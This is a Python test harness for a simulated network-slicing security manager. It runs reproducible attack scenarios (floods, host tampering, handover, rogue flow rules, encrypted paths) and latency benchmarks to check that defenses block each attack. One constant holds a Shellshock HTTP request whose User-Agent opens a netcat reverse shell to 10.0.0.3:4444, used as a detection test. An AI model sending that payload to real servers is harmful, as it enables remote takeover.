"""Scenario harness: wires the fabric, policies and the security manager into
reproducible attack runs and benchmarks.

Every run is a pure function of (scenario id, config, seed): time is virtual,
all randomness flows from the seed, and reports serialize canonically so two
identical runs produce byte-identical output.
"""

from __future__ import annotations

import hashlib
import json
import random
import statistics
from dataclasses import asdict, dataclass, field
from importlib import resources
from typing import Optional

from . import policy as pol
from . import security_functions as sf
from .controller import ManagerConfig, SecurityManager
from .fabric import (
    Delivered,
    Dropped,
    FlowMod,
    FlowRule,
    FlowKey,
    Drop as DropAction,
    NodeKind,
    Packet,
    Punted,
    apply_flow_mod,
    build_topology,
    inject_packet,
    measure_attestation,
)

UE_MACS = {1: "00:09:00:AA", 2: "00:09:00:AC", 3: "00:09:00:AD", 4: "00:09:00:AE"}


def load_default_config(name: str):
    ref = resources.files("slice_sentinel.configs").joinpath(name)
    return json.loads(ref.read_text(encoding="utf-8"))


def _derive_seed(*parts) -> int:
    material = "|".join(str(p) for p in parts).encode()
    return int.from_bytes(hashlib.sha256(material).digest()[:8], "big")


# ---------------------------------------------------------------------------
# Reports
# ---------------------------------------------------------------------------

@dataclass
class ScenarioReport:
    scenario_id: str
    seed: int
    packets: dict
    alerts: list
    audits: list
    timings: dict
    verdict: bool
    details: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        return asdict(self)

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=2) + "\n"


@dataclass
class BenchReport:
    kind: str
    seed: int
    entries: list  # dict rows
    details: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        return asdict(self)

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=2) + "\n"

    def to_csv(self) -> str:
        if self.kind == "flow-setup":
            header = "n,security,mean_ms,stdev_ms"
            rows = [
                f"{e['n']},{e['security']},{e['mean_ms']:.4f},{e['stdev_ms']:.4f}"
                for e in self.entries
            ]
        else:
            header = "n_signatures,mean_ms,stdev_ms"
            rows = [
                f"{e['n_signatures']},{e['mean_ms']:.6f},{e['stdev_ms']:.6f}"
                for e in self.entries
            ]
        return "\n".join([header] + rows) + "\n"


# ---------------------------------------------------------------------------
# World and traffic driving
# ---------------------------------------------------------------------------

def build_world(config: dict, seed: int) -> SecurityManager:
    """The security manager over the configured (or bundled) topology,
    policies and signatures; its ``fabric`` is the world's network."""
    topology = config.get("topology")
    if topology is None:
        topology = load_default_config("topology.json")
    policies = config.get("policies")
    if policies is None:
        policies = load_default_config("policies.json")
    raw_signatures = config.get("signatures")
    if raw_signatures is None:
        raw_signatures = load_default_config("signatures.json")
    signatures = sf.parse_signatures(raw_signatures)
    return SecurityManager(
        build_topology(topology), pol.load_policies(policies), signatures=signatures, seed=seed
    )


class TrafficDriver:
    """Injects packets, relays punts to the manager, re-injects once, and
    keeps per-stream outcome accounting."""

    def __init__(self, manager: SecurityManager, blacklist_feedback: bool = True) -> None:
        self.manager = manager
        self.feedback = blacklist_feedback
        self.counts: dict[str, dict] = {}
        self.alerts: list[sf.Alert] = []
        self.setup_times_ms: dict[str, float] = {}

    def _bucket(self, stream: str) -> dict:
        return self.counts.setdefault(
            stream,
            {"injected": 0, "delivered": 0, "dropped_at_entry": 0,
             "dropped_in_slice": 0, "reasons": {}},
        )

    def _drain_controller(self) -> None:
        manager = self.manager
        fabric = manager.fabric
        while fabric.punt_events:
            punt = fabric.punt_events.popleft()
            decision = manager.new_flow(punt)
            if decision.flow_id not in self.setup_times_ms:
                setup_us = decision.cost_us + manager.config.dispatch_us()
                self.setup_times_ms[decision.flow_id] = setup_us / 1000.0
        for alert in manager.pending_alerts:
            self.alerts.append(alert)
            if self.feedback:
                manager.alert(alert)
        manager.pending_alerts.clear()

    def send(self, packet: Packet, ingress: tuple[str, int], stream: str):
        fabric = self.manager.fabric
        bucket = self._bucket(stream)
        bucket["injected"] += 1

        trace = inject_packet(fabric, packet, ingress)
        self._drain_controller()
        if isinstance(trace.outcome, Punted):
            trace = inject_packet(fabric, packet, ingress)
            self._drain_controller()

        outcome = trace.outcome
        if isinstance(outcome, Delivered):
            bucket["delivered"] += 1
        elif isinstance(outcome, Dropped):
            entry = outcome.node == ingress[0]
            bucket["dropped_at_entry" if entry else "dropped_in_slice"] += 1
            reason = outcome.reason
            bucket["reasons"][reason] = bucket["reasons"].get(reason, 0) + 1
        else:  # a re-punt: no controller resolution for this flow
            bucket["dropped_at_entry"] += 1
            reason = "unresolved-punt"
            bucket["reasons"][reason] = bucket["reasons"].get(reason, 0) + 1
        return trace

    def packet_totals(self) -> dict:
        totals = {"injected": 0, "delivered": 0, "dropped_at_entry": 0, "dropped_in_slice": 0}
        for bucket in self.counts.values():
            for key in totals:
                totals[key] += bucket[key]
        spread = totals["delivered"] + totals["dropped_at_entry"] + totals["dropped_in_slice"]
        assert totals["injected"] == spread, "packet accounting identity violated"
        assert not self.manager.fabric.punt_events, "packets still in flight"
        return totals

    def stream_counts(self) -> dict:
        return {
            stream: {k: (dict(sorted(v.items())) if isinstance(v, dict) else v)
                     for k, v in sorted(bucket.items())}
            for stream, bucket in sorted(self.counts.items())
        }


def _config_count(config: dict, key: str, default: int) -> int:
    """A packet count from a scenario config: an integer >= 1, never a bool."""
    value = config.get(key, default)
    if isinstance(value, bool) or not isinstance(value, int) or value < 1:
        raise ValueError(f"scenario config {key!r} must be an integer >= 1, got {value!r}")
    return value


def _schedule(rate_interval_ms: int, count: int, start_ms: int = 0) -> list[int]:
    return [start_ms + i * rate_interval_ms for i in range(count)]


def _merged(*streams) -> list[tuple[int, int, str, Packet, tuple[str, int]]]:
    """Merge (times, packet factory) streams into one deterministic order."""
    events = []
    for order, (name, times, factory, ingress) in enumerate(streams):
        for i, t in enumerate(times):
            events.append((t, order, i, name, factory(i, t), ingress))
    events.sort(key=lambda e: (e[0], e[1], e[2]))
    return [(t, i, name, packet, ingress) for t, _o, i, name, packet, ingress in events]


def _driver_report(scenario_id: str, seed: int, driver: TrafficDriver, verdict: bool,
                   details: dict, audits=()) -> ScenarioReport:
    """The report of a scenario that drove traffic: totals, alerts and flow
    setup times come from the driver, per-stream counts lead the details."""
    return ScenarioReport(
        scenario_id=scenario_id,
        seed=seed,
        packets=driver.packet_totals(),
        alerts=[a.to_dict() for a in driver.alerts],
        audits=list(audits),
        timings={"flow_setup_ms": dict(sorted(driver.setup_times_ms.items()))},
        verdict=verdict,
        details={"streams": driver.stream_counts(), **details},
    )


# ---------------------------------------------------------------------------
# Attack scenarios
# ---------------------------------------------------------------------------

def _ue_packet(ue: int, payload: bytes, flow_id: str, t: int,
               dst: tuple[str, str] = ("10.0.0.8", "00:09:00:BB")) -> Packet:
    """A packet from UE ``ue``, which is ``10.0.0.<ue>`` at ``UE_MACS[ue]``."""
    return Packet(src_ip=f"10.0.0.{ue}", dst_ip=dst[0], src_mac=UE_MACS[ue], dst_mac=dst[1],
                  payload=payload, flow_id=flow_id, virtual_timestamp=t)


def _benign_factory(seed: int):
    return lambda i, t: _ue_packet(1, f"telemetry-{seed}-{i}".encode(), "flow-benign", t)


def _flood_run(config: dict, seed: int, ue: int, default_packets: int, tag: str,
               flow_id: str) -> tuple[int, int, TrafficDriver, list]:
    """Set up a flood from UE ``ue`` at ``("OVS1", ue)`` beside benign UE1
    telemetry.

    Returns the flood size, the benign deliveries of a telemetry-only control
    run, the driver of the flood run, and the merged packets for the caller
    to send through it.
    """
    n_attack = _config_count(config, "attack_packets", default_packets)
    n_benign = _config_count(config, "benign_packets", 50)
    feedback = config.get("blacklist_feedback", True)
    if not isinstance(feedback, bool):
        raise ValueError(
            f"scenario config 'blacklist_feedback' must be true or false, got {feedback!r}"
        )
    benign_times = _schedule(20, n_benign)

    benign = _benign_factory(seed)
    control = TrafficDriver(build_world(config, seed))
    for i, t in enumerate(benign_times):
        control.send(benign(i, t), ("OVS1", 1), "benign")

    driver = TrafficDriver(build_world(config, seed), blacklist_feedback=feedback)

    def attacker(i: int, t: int) -> Packet:
        return _ue_packet(ue, f"{tag}-{seed}-{i}".encode(), flow_id, t)

    events = _merged(
        ("attacker", _schedule(1, n_attack), attacker, ("OVS1", ue)),  # 10x the rate cap
        ("benign", benign_times, benign, ("OVS1", 1)),
    )
    return n_attack, control.counts["benign"]["delivered"], driver, events


def _scenario_attack1(config: dict, seed: int) -> ScenarioReport:
    n_attack, control_delivered, driver, events = _flood_run(
        config, seed, 3, 1000, "flood", "flow-printer-flood"
    )
    for _t, _i, stream, packet, ingress in events:
        driver.send(packet, ingress, stream)
    attacker_bucket = driver.counts["attacker"]
    benign_bucket = driver.counts["benign"]
    unauthorized_drops = attacker_bucket["reasons"].get("deny-unauthorized", 0)
    verdict = (
        attacker_bucket["delivered"] == 0
        and attacker_bucket["dropped_at_entry"] == n_attack
        and unauthorized_drops == n_attack
        and benign_bucket["delivered"] == control_delivered
    )
    return _driver_report("attack1", seed, driver, verdict, {
        "control_benign_delivered": control_delivered,
        "unauthorized_drops": unauthorized_drops,
    })


def _scenario_attack2(config: dict, seed: int) -> ScenarioReport:
    _n_attack, control_delivered, driver, events = _flood_run(
        config, seed, 4, 600, "burst", "flow-sensor-flood"
    )
    sensor = UE_MACS[4]

    def attacker_counts() -> list[int]:
        bucket = driver.counts.get("attacker", {})
        return [bucket.get(key, 0) for key in ("injected", "dropped_at_entry", "delivered")]

    # The attacker's counts just after the packet whose alert blacklisted the
    # sensor: every later attacker packet is post-blacklist.
    at_blacklist = None
    for _t, _i, stream, packet, ingress in events:
        driver.send(packet, ingress, stream)
        if at_blacklist is None and sensor in driver.manager.global_blacklist:
            at_blacklist = attacker_counts()
    post, post_dropped_entry, post_delivered = (
        [end - start for end, start in zip(attacker_counts(), at_blacklist)]
        if at_blacklist is not None else (0, 0, 0)
    )
    sensor_alerts = [a for a in driver.alerts if a.device_id == sensor]
    single_alert_in_window = (
        len(sensor_alerts) == 1 and sensor_alerts[0].time_ms <= sf.ANOMALY_WINDOW_MS
    )
    verdict = (
        single_alert_in_window
        and at_blacklist is not None
        and post > 0
        and post_delivered == 0
        and post_dropped_entry >= 0.99 * post
        and driver.counts["benign"]["delivered"] == control_delivered
    )
    return _driver_report("attack2", seed, driver, verdict, {
        "control_benign_delivered": control_delivered,
        "alerts_for_device": len(sensor_alerts),
        "post_blacklist_packets": post,
        "post_blacklist_dropped_at_entry": post_dropped_entry,
        "post_blacklist_delivered": post_delivered,
    })


def _scenario_attack3(config: dict, seed: int) -> ScenarioReport:
    tampered = config.get("tampered_hosts", ["SVC3"])
    if not (isinstance(tampered, list) and all(isinstance(h, str) for h in tampered)):
        raise ValueError(
            f"scenario config 'tampered_hosts' must be a list of node ids, got {tampered!r}"
        )
    tampered = set(tampered)
    manager = build_world(config, seed)
    fabric = manager.fabric
    for node_id in tampered:
        fabric.set_tampered(node_id, True)

    hosts = sorted(n.node_id for n in fabric.nodes.values() if n.kind == NodeKind.HOST)
    results = {}
    for host in hosts:
        verdict = manager.deploy_service_gated(host, f"service@{host}")
        results[host] = {"deployed": verdict == sf.TrustVerdict.TRUSTED, "verdict": verdict.value}

    refused = {h for h, r in results.items() if not r["deployed"]}
    granted = {h for h, r in results.items() if r["deployed"]}

    # Replay: an old report never satisfies a fresh challenge.
    probe = hosts[0]
    old_report = measure_attestation(fabric, probe, b"\x01" * 16)
    replay_verdict = sf.validate_attestation(
        fabric.nodes[probe].expected_hash, old_report, b"\x02" * 16
    )

    verdict = (
        refused == tampered
        and granted == set(hosts) - tampered
        and replay_verdict == sf.TrustVerdict.STALE_NONCE
    )
    return ScenarioReport(
        scenario_id="attack3",
        seed=seed,
        packets={"injected": 0, "delivered": 0, "dropped_at_entry": 0, "dropped_in_slice": 0},
        alerts=[],
        audits=[],
        timings={},
        verdict=verdict,
        details={
            "hosts": results,
            "tampered": sorted(tampered),
            "refused": sorted(refused),
            "replay_verdict": replay_verdict.value,
            "admin_alerts": manager.admin_alerts,
        },
    )


def _scenario_attack4(config: dict, seed: int) -> ScenarioReport:
    if config.get("topology") is None:
        config = {**config, "topology": load_default_config("topology_handover.json")}
    n_post = 20
    manager = build_world(config, seed)
    fabric = manager.fabric
    driver = TrafficDriver(manager)

    def ue1(i: int, t: int) -> Packet:
        return _ue_packet(1, f"stream-{i}".encode(), "flow-ue1", t)

    for i, t in enumerate(_schedule(10, 10)):
        driver.send(ue1(i, t), ("OVS1", 1), "pre-handover")

    pairs_before = frozenset(fabric.ingress_processors["OVS1"].access.allowed[UE_MACS[1]])
    extractions_before = len(manager.log.events(pol.EV_PROFILE_EXTRACTED))
    handover = manager.handover(UE_MACS[1], "OVS1", "OVS2")
    extractions_during = len(manager.log.events(pol.EV_PROFILE_EXTRACTED)) - extractions_before
    pairs_after = frozenset(fabric.ingress_processors["OVS2"].access.allowed.get(UE_MACS[1], set()))

    new_port = fabric.port_toward("OVS2", "UE1")
    for i, t in enumerate(_schedule(10, n_post, start_ms=200)):
        driver.send(ue1(100 + i, t), ("OVS2", new_port), "post-handover")

    # A blacklisted device must stay blocked across a handover.
    driver.send(_ue_packet(4, b"pre", "flow-ue4", 400), ("OVS1", 4), "sensor-pre")
    manager.alert(
        sf.Alert("flow-validator", UE_MACS[4], "flow-ue4", "anomaly:rate", "high", 401)
    )
    manager.handover(UE_MACS[4], "OVS1", "OVS2")
    sensor_blacklisted = UE_MACS[4] in manager.global_blacklist
    sensor_port = fabric.port_toward("OVS2", "UE4")
    for i, t in enumerate(_schedule(5, 10, start_ms=450)):
        driver.send(
            _ue_packet(4, f"post-{i}".encode(), "flow-ue4", t), ("OVS2", sensor_port), "sensor-post"
        )

    post_bucket = driver.counts["post-handover"]
    sensor_post = driver.counts["sensor-post"]
    verdict = (
        pairs_after == pairs_before
        and extractions_during == 0
        and post_bucket["delivered"] == n_post
        and sensor_blacklisted
        and sensor_post["delivered"] == 0
    )
    return _driver_report("attack4", seed, driver, verdict, {
        "authorizations_before": sorted(map(list, pairs_before)),
        "authorizations_after": sorted(map(list, pairs_after)),
        "extractions_during_handover": extractions_during,
        "rules_reanchored": handover.rules_reanchored,
        "sensor_blacklist_carried": sensor_blacklisted,
    })


SHELLSHOCK_EXPLOIT = (
    b"GET /cgi-bin/status HTTP/1.1\r\n"
    b"Host: service1\r\n"
    b"User-Agent: () { :;}; /bin/nc -e /bin/sh 10.0.0.3 4444\r\n\r\n"
)


def _scenario_shellshock(config: dict, seed: int) -> ScenarioReport:
    def exploit(i: int, t: int) -> Packet:
        return _ue_packet(1, SHELLSHOCK_EXPLOIT, "flow-exploit", t)

    # Arm A: the configured signature set is live.
    manager = build_world(config, seed)
    driver = TrafficDriver(manager)
    n_exploit = 5
    for i, t in enumerate(_schedule(10, n_exploit)):
        driver.send(exploit(i, t), ("OVS1", 1), "exploit")
    armed = driver.counts["exploit"]
    signature_drops = armed["reasons"].get("signature:sig-shellshock", 0)

    # Arm B: identical run with an empty signature set; the payload sails through.
    control_driver = TrafficDriver(build_world({**config, "signatures": []}, seed))
    for i, t in enumerate(_schedule(10, n_exploit)):
        control_driver.send(exploit(i, t), ("OVS1", 1), "exploit")
    control = control_driver.counts["exploit"]

    isolated = UE_MACS[1] in manager.global_blacklist
    verdict = (
        armed["delivered"] == 0
        and signature_drops >= 1
        and armed["dropped_at_entry"] == n_exploit
        and isolated
        and control["delivered"] == n_exploit
    )
    return _driver_report("shellshock", seed, driver, verdict, {
        "signature_drops": signature_drops,
        "attacker_isolated": isolated,
        "control_delivered": control["delivered"],
    })


def _scenario_flowmod_audit(config: dict, seed: int) -> ScenarioReport:
    manager = build_world(config, seed)
    fabric = manager.fabric
    driver = TrafficDriver(manager)
    for i, t in enumerate(_schedule(10, 5)):
        driver.send(_benign_factory(seed)(i, t), ("OVS1", 1), "benign")

    injected_id = "atk-3346"
    injected = FlowRule(
        rule_id=injected_id,
        match=FlowKey(src_ip="10.0.0.66", dst_ip="10.0.0.8"),
        action=DropAction(),
        priority=77,
    )
    apply_flow_mod(fabric, "OVS1", FlowMod.add(injected))

    first = manager.audit_now("OVS1")
    second = manager.audit_now("OVS1")

    verdict = (
        not first.clean
        and [r.rule_id for r in first.extra_rules] == [injected_id]
        and first.missing_rules == ()
        and first.modified_rules == ()
        and second.clean
    )
    details = {
        "injected_rule_id": injected_id,
        "restored": second.clean,
        "admin_alerts": manager.admin_alerts,
    }
    return _driver_report("flowmod_audit", seed, driver, verdict, details,
                          audits=[first.to_dict(), second.to_dict()])


def _scenario_fsf_path(config: dict, seed: int) -> ScenarioReport:
    n_packets = _config_count(config, "packets", 10)
    manager = build_world(config, seed)
    fabric = manager.fabric
    driver = TrafficDriver(manager)

    plaintexts = [f"meter-reading-{seed}-{i}".encode() for i in range(n_packets)]

    def secured(i: int, t: int) -> Packet:
        return _ue_packet(2, plaintexts[i], "flow-scada", t, dst=("10.0.0.7", "00:09:00:BC"))

    driver.send(secured(0, 0), ("OVS1", 2), "secured")
    key_id = manager.provision_security("flow-scada")

    mid_clean = True
    delivered_intact = True
    for i in range(1, len(plaintexts)):
        trace = driver.send(secured(i, i * 10), ("OVS1", 2), "secured")
        for hop in trace.events:
            if hop.node == "OVS1" and hop.to == "CORE1":
                if plaintexts[i] in hop.payload or not hop.encrypted:
                    mid_clean = False
            if hop.to == "SVC2" and hop.payload != plaintexts[i]:
                delivered_intact = False
        if not isinstance(trace.outcome, Delivered):
            delivered_intact = False

    secured_bucket = driver.counts["secured"]
    verdict = (
        mid_clean
        and delivered_intact
        and secured_bucket["delivered"] == len(plaintexts)
        and fabric.flow_ciphers.get("OVS1", {}).get("flow-scada", (None,))[0] == "encrypt"
        and fabric.flow_ciphers.get("CORE1", {}).get("flow-scada", (None,))[0] == "decrypt"
    )
    return _driver_report("fsf_path", seed, driver, verdict, {
        "key_id": key_id,
        "mid_path_ciphertext_only": mid_clean,
        "delivered_payloads_intact": delivered_intact,
    })


# Each scenario with the config keys it reads beside build_world's.
_WORLD_KEYS = ("topology", "policies", "signatures")
_FLOOD_KEYS = ("attack_packets", "benign_packets", "blacklist_feedback")
_SCENARIOS = {
    "attack1": (_scenario_attack1, _FLOOD_KEYS),
    "attack2": (_scenario_attack2, _FLOOD_KEYS),
    "attack3": (_scenario_attack3, ("tampered_hosts",)),
    "attack4": (_scenario_attack4, ()),
    "shellshock": (_scenario_shellshock, ()),
    "flowmod_audit": (_scenario_flowmod_audit, ()),
    "fsf_path": (_scenario_fsf_path, ("packets",)),
}
SCENARIO_IDS = tuple(_SCENARIOS)


def run_scenario(scenario_id: str, config: Optional[dict] = None, seed: int = 0) -> ScenarioReport:
    """Run one scenario to a deterministic, self-judging report.  A config key
    the scenario does not read is a ``ValueError`` that names it, so a
    misspelled key never runs the default."""
    if scenario_id not in _SCENARIOS:
        raise ValueError(f"unknown scenario {scenario_id!r}; pick one of {SCENARIO_IDS}")
    run, keys = _SCENARIOS[scenario_id]
    config = dict(config or {})
    known = _WORLD_KEYS + keys
    unread = [key for key in config if key not in known]
    if unread:
        raise ValueError(
            f"scenario config key(s) {', '.join(map(repr, unread))} are not read by "
            f"{scenario_id}, which reads {', '.join(map(repr, known))}"
        )
    return run(config, seed)


# ---------------------------------------------------------------------------
# Benchmarks
# ---------------------------------------------------------------------------

def _fleet_ue(i: int) -> tuple[str, str]:
    """The IP and MAC of the UE behind gNodeB ``i`` of a bench fleet."""
    return f"10.{1 + i // 250}.{(i % 250)}.2", f"02:00:00:{i:04d}"


def _fleet_documents(n_gnodebs: int) -> tuple[dict, list]:
    nodes = [
        {"id": "COREB", "kind": "core"},
        {"id": "SVCB", "kind": "host", "ip": "10.9.0.1"},
    ]
    links = [{"a": "COREB", "b": "SVCB", "latency_ms": 1}]
    slices = [{"vlan": 100, "name": "bench", "hosts": ["SVCB"]}]
    policies = []
    for i in range(n_gnodebs):
        edge = f"E{i:04d}"
        ue = f"U{i:04d}"
        ip, mac = _fleet_ue(i)
        nodes.append({"id": edge, "kind": "edge"})
        nodes.append({"id": ue, "kind": "host", "ip": ip})
        links.append({"a": ue, "b": edge, "latency_ms": 1})
        links.append({"a": edge, "b": "COREB", "latency_ms": 1})
        policies.append(
            {
                "id": f"p{i:04d}",
                "hostip": ip,
                "hostmac": mac,
                "destip": "10.9.0.1",
                "user": {"id": f"user-{i:04d}", "name": f"user-{i:04d}",
                         "role": "Personal-Role", "organization": ""},
                "contract_id": f"c{i:04d}",
                "actions": [{"Service": "BenchService", "Slice-id": "VLAN100"}],
            }
        )
    topology = {"nodes": nodes, "links": links, "slices": slices}
    return topology, policies


FLOW_SETUP_JITTER_US = 500


def _flow_setup_run(n: int, security_on: bool, run_seed: int) -> list[float]:
    """One fleet round: every gNodeB punts its first flow at t=0 and the
    controller serves the queue in order.  Returns per-flow setup times (ms)."""
    topology, policies = _fleet_documents(n)
    fabric = build_topology(topology)
    repo = pol.load_policies(policies)
    cfg = ManagerConfig(security_enabled=security_on)
    manager = SecurityManager(fabric, repo, signatures=[], config=cfg, seed=run_seed)

    for i in range(n):
        ip, mac = _fleet_ue(i)
        packet = Packet(src_ip=ip, dst_ip="10.9.0.1", src_mac=mac, dst_mac="0e:00:00:01",
                        payload=b"first", flow_id=f"bench-{i:04d}", virtual_timestamp=0)
        inject_packet(fabric, packet, (f"E{i:04d}", 1))

    jitter = random.Random(run_seed)
    one_way_us = cfg.dispatch_us()
    available_us = 0.0
    setups_ms = []
    punts = list(fabric.punt_events)
    fabric.punt_events.clear()
    for punt in punts:
        decision = manager.new_flow(punt)
        service_us = decision.cost_us - one_way_us + jitter.randint(0, FLOW_SETUP_JITTER_US)
        punted_us = punt.packet.virtual_timestamp * 1000
        arrival_us = punted_us + one_way_us
        start_us = max(arrival_us, available_us)
        completion_us = start_us + service_us
        available_us = completion_us
        setups_ms.append((completion_us + one_way_us - punted_us) / 1000.0)
    return setups_ms


def bench_flow_setup(
    sizes=(100, 200, 300, 400, 500),
    security: str = "both",
    runs: int = 10,
    seed: int = 0,
) -> BenchReport:
    """Average flow setup time versus fleet size, with and without the
    security functions in the setup path."""
    if runs < 1:
        raise ValueError("runs must be >= 1")
    if security not in ("on", "off", "both"):
        raise ValueError(f"security must be on, off or both, got {security!r}")
    if any(n < 1 for n in sizes):
        raise ValueError("fleet size must be >= 1")
    modes = {"on": [True], "off": [False], "both": [False, True]}[security]
    entries = []
    samples: dict[str, list[float]] = {}
    for n in sizes:
        for mode in modes:
            run_means = []
            for run in range(runs):
                # identical jitter draws for on and off at the same (seed, n, run)
                run_seed = _derive_seed(seed, n, run)
                setups = _flow_setup_run(n, mode, run_seed)
                run_means.append(statistics.fmean(setups))
            label = "on" if mode else "off"
            mean_ms = statistics.fmean(run_means)
            stdev_ms = statistics.stdev(run_means) if len(run_means) > 1 else 0.0
            entries.append(
                {"n": n, "security": label, "mean_ms": mean_ms, "stdev_ms": stdev_ms,
                 "runs": runs}
            )
            samples[f"{n}/{label}"] = run_means
    return BenchReport(kind="flow-setup", seed=seed, entries=entries,
                       details={"run_means_ms": samples})


def bench_signature_latency(
    counts=(0, 10, 100, 1000),
    runs: int = 10,
    packets: int = 100,
    seed: int = 0,
) -> BenchReport:
    """Mean per-packet validation latency versus signature set size under the
    linear first-match scan."""
    if runs < 1:
        raise ValueError("runs must be >= 1")
    if packets < 1:
        raise ValueError("packets must be >= 1")
    if any(n < 0 for n in counts):
        raise ValueError("signature count must be >= 0")
    cfg = ManagerConfig()
    entries = []
    for n in counts:
        run_means = []
        for run in range(runs):
            rng = random.Random(_derive_seed(seed, n, run))
            signatures = [
                # 0xF0.. bytes never appear in the ASCII payloads below
                sf.Signature(f"s{j:05d}", bytes([0xF0 + rng.randint(0, 14) for _ in range(8)]))
                for j in range(n)
            ]
            state = sf.FlowValidatorState(signatures=signatures)
            costs_us = []
            for p in range(packets):
                packet = Packet(
                    src_ip="10.0.0.1", dst_ip="10.0.0.8", src_mac="aa", dst_mac="bb",
                    payload=f"benign-{run}-{p}".encode(), flow_id="bench",
                    virtual_timestamp=p,
                )
                result = sf.validate_flow(state, packet)
                costs_us.append(
                    cfg.flow_validation_base_us
                    + result.signatures_scanned * cfg.signature_scan_us
                )
            run_means.append(statistics.fmean(costs_us) / 1000.0)
        entries.append(
            {
                "n_signatures": n,
                "mean_ms": statistics.fmean(run_means),
                "stdev_ms": statistics.stdev(run_means) if len(run_means) > 1 else 0.0,
                "runs": runs,
            }
        )
    baseline_ms = cfg.flow_validation_base_us / 1000.0
    return BenchReport(
        kind="signatures", seed=seed, entries=entries,
        details={"baseline_ms": baseline_ms, "packets_per_run": packets},
    )
